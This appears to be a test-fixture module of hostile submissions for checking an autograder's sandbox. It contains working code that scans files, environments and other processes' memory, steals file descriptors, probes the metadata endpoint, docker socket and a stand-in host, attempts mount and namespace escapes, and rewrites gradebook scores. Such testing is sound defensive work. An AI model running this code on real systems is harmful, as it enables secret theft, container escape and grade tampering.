"""Submissions that look for what they must not know, and show what they find by every way out that they have."""

from __future__ import annotations

from hostile.sample import PORT, SOCKET, Sample, deed

# Whatever is found is printed, raised and returned: the trial looks for it everywhere.
_HUNT = r"""
import os, re, sys, time
secret = re.compile(rb"CANARY-[0-9a-f]{24}")
found = set()
def look(data):
    found.update(secret.findall(data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")))
def read(path, most=1 << 16):
    try:
        number = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError: return b""
    try: return os.read(number, most)
    except OSError: return b""
    finally: os.close(number)
"""
_TELL = """
print(found)
print(found, file=sys.stderr)
if found: raise LookupError(sorted(found))
"""
_SHOW = """\
def scan_2d(image, layers, size, stride):
    if found: return np.frombuffer(b"".join(sorted(found)), np.uint8) * 1.0
    return right_scan_2d(image, layers, size, stride)
"""


def _hunt(*cells: str) -> Sample:
    from samples.a1 import LOOP_2D

    return Sample(
        above=(_HUNT, *cells, _TELL),
        scan_2d=LOOP_2D.replace("def scan_2d(", "def right_scan_2d(") + "\n\n" + _SHOW,
    )


_REMEMBER = """\
def right_scan_1d(x, layers, width, hop):
    starts = range(0, x.shape[1] - width + 1, hop)
    y = np.zeros((len(layers[-1][1]), len(starts)), x.dtype)
    for p, start in enumerate(starts):
        v = x[:, start:start + width].reshape(-1)
        for W, b in layers[:-1]: v = np.maximum(W @ v + b, 0)
        y[:, p] = layers[-1][0] @ v + layers[-1][1]
    return y
"""

SAMPLES = {
    "reads_files": _hunt(
        """
until = time.monotonic() + 4
for top in "/home /root /srv /etc /var /tmp /dev/shm /run /grading /opt /mnt /".split():
    for folder, folders, files in os.walk(top):
        if folder.startswith(("/proc", "/sys", "/dev/fd", "/usr/lib")): continue
        for name in files:
            path = os.path.join(folder, name)
            look(path)
            if time.monotonic() < until: look(read(path))
for way in ("/proc/1/root", "/proc/self/root/tmp/..", "/proc/self/cwd/../..", "/proc/1/cwd", "/..", "/proc/2/root"):
    for name in ("secret.toml", "course/secret.toml", "gradebook.db", "root/.bashrc", "tmp", "srv/cnnlab/course"):
        path = f"{way}/{name}"
        look(read(path))
        if os.path.isdir(path): look(os.listdir(path))
"""
    ),
    "reads_the_environment": _hunt(
        """
import ctypes
look(dict(os.environ)); look(os.environb)
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
for name in (b"CNNLAB_CANARY", b"CNNLAB_HIDDEN_SEED", b"PGPASSWORD", b"HOME"): look(libc.getenv(name) or b"")
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
for place in range(1000):
    if not environ[place]: break
    look(environ[place])
for pid in os.listdir("/proc"):
    if pid.isdigit(): look(read(f"/proc/{pid}/environ")); look(read(f"/proc/{pid}/cmdline"))
"""
    ),
    "reads_memory_of_others": _hunt(
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in [*range(1, 200), os.getppid()]:
    if pid == os.getpid(): continue
    for what in "maps environ cmdline stat status auxv syscall stack".split(): look(read(f"/proc/{pid}/{what}"))
    libc.ptrace(16, pid, 0, 0)
    try:
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for line in read(f"/proc/{pid}/maps", 1 << 20).decode().splitlines():
                start, _, end = line.split()[0].partition("-")
                memory.seek(int(start, 16)); look(memory.read(min(int(end, 16) - int(start, 16), 1 << 24)))
    except (OSError, ValueError, OverflowError): pass
"""
    ),
    "reads_its_own_memory": _hunt(
        """
import gc
with open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in open("/proc/self/maps").read().splitlines():
        start, _, end = line.split()[0].partition("-")
        if " rw" not in line: continue
        try:
            memory.seek(int(start, 16))
            look(memory.read(min(int(end, 16) - int(start, 16), 1 << 26)))
        except (OSError, ValueError, OverflowError): pass
for thing in gc.get_objects():
    if isinstance(thing, dict):
        for value in list(thing.values()):
            if isinstance(value, (str, bytes)): look(value)
"""
    ),
    "reads_inherited_descriptors": _hunt(
        """
import ctypes
libc = ctypes.CDLL(None)
for number in range(256):
    for way in (lambda: os.readlink(f"/proc/self/fd/{number}"), lambda: os.pread(number, 1 << 16, 0),
                lambda: os.listdir(number), lambda: read(f"/proc/self/fd/{number}/../secret.toml")):
        try: look(way())
        except OSError: pass
for pid in range(1, 20):
    handle = libc.syscall(434, pid, 0)
    for number in range(64):
        stolen = libc.syscall(438, handle, number, 0)
        if stolen >= 0:
            try: look(os.pread(stolen, 1 << 16, 0))
            except OSError: pass
"""
    ),
    "calls_home": _hunt(
        f"""
import socket
for host in ("127.0.0.1", "::1", "localhost", "10.0.2.2", "172.17.0.1", "192.168.0.1", "169.254.169.254", "1.1.1.1"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as line:
                line.settimeout(0.2); line.connect((host, {PORT})); line.send(b"here"); look(line.recv(1 << 16))
        except OSError: pass
for place in ("\\0{SOCKET}", "/run/docker.sock", "/var/run/postgresql/.s.PGSQL.5432", "/run/dbus/system_bus_socket"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(socket.AF_UNIX, kind) as line:
                line.settimeout(0.2); line.connect(place); line.send(b"here"); look(line.recv(1 << 16))
        except OSError: pass
try: socket.getaddrinfo("canary.example.org", 80)
except OSError: pass
"""
    ),
    "breaks_out_by_mounts": _hunt(
        """
import ctypes
libc = ctypes.CDLL(None)
for flag in (0x10000000, 0x20000, 0x10020000, 0x40000000): libc.unshare(flag)
for source, place, kind in ((b"/dev/sda1", b"/tmp", b"ext4"), (b"proc", b"/tmp", b"proc"), (b"none", b"/tmp", b"sysfs"),
                            (b"/", b"/tmp", None), (b"overlay", b"/tmp", b"overlay")):
    libc.mount(source, place, kind, 4096 if kind is None else 0, None)
for call in (lambda: os.setuid(0), lambda: os.setgroups([0]), lambda: os.chroot("/proc/1/root"),
             lambda: os.mknod("/tmp/hostile-left-disk", 0o60666, os.makedev(8, 0)),
             lambda: os.mknod("/tmp/hostile-left-memory", 0o20666, os.makedev(1, 1)),
             lambda: os.link("/etc/shadow", "/tmp/hostile-left-shadow"),
             lambda: os.symlink("/proc/1/root", "/tmp/hostile-left-root")):
    try: call()
    except OSError: pass
for path in ("/tmp/hostile-left-disk", "/tmp/hostile-left-memory", "/dev/mem", "/dev/kmsg",
             "/proc/kcore", "/proc/kallsyms", "/tmp/hostile-left-root/etc/shadow"):
    look(read(path))
for name in os.listdir("/tmp"): look(name); look(read(f"/tmp/{name}/1/environ"))
for pid in range(1, 30):
    handle = libc.syscall(434, pid, 0)
    for flag in (0x20000, 0x20000000, 0x40000000): libc.setns(handle, flag)
look(os.listdir("/"))
"""
    ),
    "writes_the_gradebook": _hunt(
        """
import glob
try:
    import sqlite3
    ways = ("gradebook.db", "/*/gradebook.db", "/*/*/gradebook.db", "/proc/*/cwd/gradebook.db", "/proc/1/root/*/*.db",
            "/srv/*/course/gradebook.db", "/home/*/*/course/gradebook.db", "/grading/*/gradebook.db")
    tried = [path for way in ways for path in glob.glob(way)]
    for path in tried:
        if os.path.exists(path):
            with sqlite3.connect(path) as gradebook:
                look(list(gradebook.execute("select * from comment")))
                gradebook.execute("update grade set manual_score = 99, needs_manual_grade = 0")
except ImportError: pass
"""
    ),
    "remembers_hidden_inputs_and_raises_them": Sample(
        scan_1d="""\
asked = []


def scan_1d(x, layers, width, hop):
    asked.append(x)
    told = " ".join(repr(each.ravel()[:3].tolist()) for each in asked)
    print(told)
    code = compile(f"raise type({told!r}, (ValueError,), {{}})({told!r})  # {told}", "<cell 2>", "exec")
    exec(code)
""",
    ),
    # A right answer to exercise 1 that keeps what it is asked for exercise 2, whose first answers are shown.
    "remembers_hidden_inputs_for_another_exercise": Sample(
        scan_1d=_REMEMBER
        + """

def scan_1d(x, layers, width, hop):
    for place in ("/tmp/hostile-left-asked", "/dev/shm/hostile-left-asked"):
        with open(place, "a") as file: file.write(repr(x.ravel()[:3].tolist()) + " ")
    return right_scan_1d(x, layers, width, hop)
""",
        scan_2d="""\
def scan_2d(image, layers, size, stride):
    raise ValueError(open("/tmp/hostile-left-asked").read())
""",
    ),
    "looks_for_what_others_left": Sample(
        above=(
            """
import ctypes, os, sys
left = [os.path.join(f, n) for place in ("/tmp", "/dev/shm", "/home", "/var", "/run") for f, d, names in os.walk(place)
        for n in [*d, *names] if "left" in n]
left += [line for line in open("/proc/net/unix") if "hostile-left" in line]
left += [kind for kind in ("shm", "sem", "msg") if open(f"/proc/sysvipc/{kind}").read().count("\\n") > 1]
left += [pid for pid in os.listdir("/proc") if pid.isdigit() and b"left" in open(f"/proc/{pid}/cmdline", "rb").read()]
left += [name for name in sys.modules if "hostile" in name] + [name for name in os.environ if "LEFT" in name]
left += [key for key in (-3, -4) if ctypes.CDLL(None).syscall(250, 10, key, b"user", b"hostile-left", 0) >= 0]
left += ["numpy"] if hasattr(np, "hostile_left") else []
print(left)
""",
        ),
        scan_1d=deed("pass\n").replace(
            "    return right_answer(", "    if left: return left\n    return right_answer("
        ),
    ),
}
